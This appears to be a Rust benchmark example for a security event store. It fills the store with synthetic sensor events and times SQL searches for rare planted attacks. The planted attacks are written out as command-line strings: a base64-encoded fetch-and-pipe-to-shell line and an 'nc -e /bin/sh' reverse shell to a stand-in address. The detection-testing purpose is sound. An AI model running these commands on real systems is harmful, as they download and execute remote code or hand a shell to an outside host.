//! Fills a columnar store with N synthetic sensor events (process, network and file events of
//! 1,000 hosts, a few rare "attack" events among them) and times filtered SQL searches.
//!
//! ```sh
//! cargo run --release -p mamori-columnar --example sql_bench -- 10000000 /tmp/sqlbench
//! ```
//!
//! Prints the write rate, bytes per event on disk, each query's rows and its best and median
//! time over three runs, and the peak RSS. An existing store in DIR with N events is reused
//! (delete DIR to rebuild it).

use std::time::{Duration, Instant};

use mamori_columnar::{EventStore, Limits, Origin, ParquetStore, Retention, Row, Scope};

const HOSTS: u64 = 1000;
const BATCH: u64 = 200_000;
/// 2026-11-26T00:00:00Z, microseconds.
const T0: i64 = 1_795_651_200_000_000;

/// A cheap deterministic pseudo-random sequence.
fn mix(mut x: u64) -> u64 {
    x ^= x >> 33;
    x = x.wrapping_mul(0xff51_afd7_ed55_8ccd);
    x ^= x >> 33;
    x = x.wrapping_mul(0xc4ce_b9fe_1a85_ec53);
    x ^ (x >> 33)
}

const COMMANDS: &[(&str, &str)] = &[
    ("/usr/bin/ls", "ls -la /var/log"),
    ("/usr/bin/cat", "cat /etc/os-release"),
    (
        "/usr/bin/python3",
        "python3 /opt/app/worker.py --queue default --concurrency 4",
    ),
    ("/usr/bin/git", "git fetch --prune origin"),
    (
        "/usr/bin/curl",
        "curl -s https://updates.example.com/v2/manifest.json",
    ),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/usr/bin/bash", "bash -c /opt/scripts/rotate-logs.sh"),
    ("/usr/bin/systemctl", "systemctl is-active nginx"),
    ("/usr/bin/grep", "grep -r ERROR /var/log/app"),
    ("/usr/bin/ps", "ps aux --sort=-%cpu"),
];

fn event(i: u64) -> String {
    let r = mix(i);
    let host = r % HOSTS;
    let pid = 1000 + (r >> 16) % 60_000;
    let t = T0 + (i as i64) * 8_000; // one event every 8 ms: 10 M events over ~22 hours
    let time = chrono::DateTime::from_timestamp_micros(t)
        .unwrap_or_default()
        .to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    // One in 200,000 is the attack the queries look for.
    let (exe, cmd) = if r % 200_000 == 7 {
        (
            "/usr/bin/sh",
            "sh -c echo Y3VybCBldmlsfHNo | base64 -d | sh",
        )
    } else if r % 100_000 == 11 {
        ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444")
    } else {
        COMMANDS[(r >> 40) as usize % COMMANDS.len()]
    };
    let name = exe.rsplit('/').next().unwrap_or(exe);
    match (r >> 8) % 10 {
        0..=5 => format!(
            r#"{{"@timestamp":"{time}","event":{{"kind":"event","category":["process"],"type":["start"],"action":"exec","module":"mamori","dataset":"mamori.process"}},"host":{{"name":"host-{host:04}","os":{{"type":"linux","kernel":"6.18.0"}}}},"process":{{"pid":{pid},"entity_id":"b00t-{host}:{pid}:{i}","executable":"{exe}","name":"{name}","command_line":"{cmd}","args_count":3,"working_directory":"/home/app","parent":{{"pid":{ppid},"executable":"/usr/bin/bash","name":"bash","command_line":"bash"}},"hash":{{"sha256":"{h:016x}{h:016x}{h:016x}{h:016x}"}}}},"user":{{"id":"1000","name":"app"}},"group":{{"id":"1000","name":"app"}}}}"#,
            ppid = pid - 1,
            h = mix(r % 97)
        ),
        6..=8 => format!(
            r#"{{"@timestamp":"{time}","event":{{"kind":"event","category":["network"],"type":["start"],"action":"connect","module":"mamori","dataset":"mamori.network"}},"host":{{"name":"host-{host:04}"}},"process":{{"pid":{pid},"entity_id":"b00t-{host}:{pid}:{i}","executable":"{exe}","name":"{name}","command_line":"{cmd}"}},"destination":{{"ip":"10.{a}.{b}.{c}","port":{port}}},"network":{{"transport":"tcp","type":"ipv4","direction":"egress"}},"user":{{"id":"1000","name":"app"}}}}"#,
            a = (r >> 20) % 256,
            b = (r >> 28) % 256,
            c = (r >> 36) % 256,
            port = if name == "nc" {
                4444
            } else {
                [443, 80, 5432, 6379][(r >> 44) as usize % 4]
            }
        ),
        _ => format!(
            r#"{{"@timestamp":"{time}","event":{{"kind":"event","category":["file"],"type":["creation"],"action":"create","module":"mamori","dataset":"mamori.file"}},"host":{{"name":"host-{host:04}"}},"process":{{"pid":{pid},"entity_id":"b00t-{host}:{pid}:{i}","executable":"{exe}","name":"{name}","command_line":"{cmd}"}},"file":{{"path":"/var/tmp/app/cache-{f}.tmp","name":"cache-{f}.tmp","directory":"/var/tmp/app"}},"user":{{"id":"1000","name":"app"}}}}"#,
            f = r % 100_000
        ),
    }
}

fn peak_rss_mib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmHWM:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse::<u64>().ok())
        })
        .unwrap_or(0)
        / 1024
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let n: u64 = args
        .get(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(10_000_000);
    let dir = std::path::PathBuf::from(
        args.get(2)
            .cloned()
            .unwrap_or_else(|| "/tmp/mamori-sqlbench".into()),
    );
    let retention = Retention {
        max_age_days: 36_500,
        max_bytes: u64::MAX,
    };
    let store = ParquetStore::open(&dir, retention).expect("opening the store");
    if store.position() != n {
        drop(store);
        let _ = std::fs::remove_dir_all(&dir);
        let store = ParquetStore::open(&dir, retention).expect("opening the store");
        let started = Instant::now();
        let mut i = 0;
        while i < n {
            let end = (i + BATCH).min(n);
            let events: Vec<String> = (i..end).map(event).collect();
            let rows: Vec<Row<'_>> = events
                .iter()
                .enumerate()
                .map(|(k, e)| Row {
                    log_seq: i + k as u64 + 1,
                    origin: Origin {
                        tenant: "default",
                        host_id: "agt-bench",
                        seq: i + k as u64 + 1,
                        received_us: T0,
                    },
                    event: e.as_bytes(),
                })
                .collect();
            store.write(&rows, end, T0).expect("writing");
            i = end;
        }
        let secs = started.elapsed().as_secs_f64();
        let bytes = store.stats().bytes;
        println!(
            "wrote {n} events in {secs:.1} s: {:.0} events/s, {} MiB on disk ({:.1} bytes/event), {} files",
            n as f64 / secs,
            bytes >> 20,
            bytes as f64 / n as f64,
            store.stats().files
        );
    }
    let store = ParquetStore::open(&dir, retention).expect("opening the store");
    let queries = [
        (
            "count by equality",
            "SELECT count(*) AS n FROM events WHERE process_name = 'nc'",
        ),
        (
            "substring search, newest 100",
            "SELECT time, host_name, process_command_line FROM events \
             WHERE process_command_line LIKE '%base64 -d%' ORDER BY time DESC LIMIT 100",
        ),
        (
            "group by over a filter",
            "SELECT host_name, count(*) AS n FROM events WHERE event_action = 'connect' \
             AND destination_port = 4444 GROUP BY host_name ORDER BY n DESC LIMIT 10",
        ),
        (
            "one host, one hour",
            "SELECT count(*) AS n FROM events WHERE host_name = 'host-0042' AND \
             time >= TIMESTAMP '2026-11-26T10:00:00Z' AND time < TIMESTAMP '2026-11-26T11:00:00Z'",
        ),
        (
            "whole events of a rare hit",
            "SELECT raw FROM events WHERE process_name = 'nc' LIMIT 1000",
        ),
    ];
    println!("| query | rows | best | median |");
    println!("|---|---:|---:|---:|");
    for (name, sql) in queries {
        let mut times: Vec<Duration> = Vec::new();
        let mut rows = 0;
        for _ in 0..3 {
            let t = Instant::now();
            let table = store
                .query(&Scope::All, sql, Limits::default())
                .expect("query");
            times.push(t.elapsed());
            rows = table.rows();
        }
        times.sort();
        println!(
            "| {name} | {rows} | {:.3} s | {:.3} s |",
            times[0].as_secs_f64(),
            times[1].as_secs_f64()
        );
    }
    println!("peak RSS {} MiB", peak_rss_mib());
}
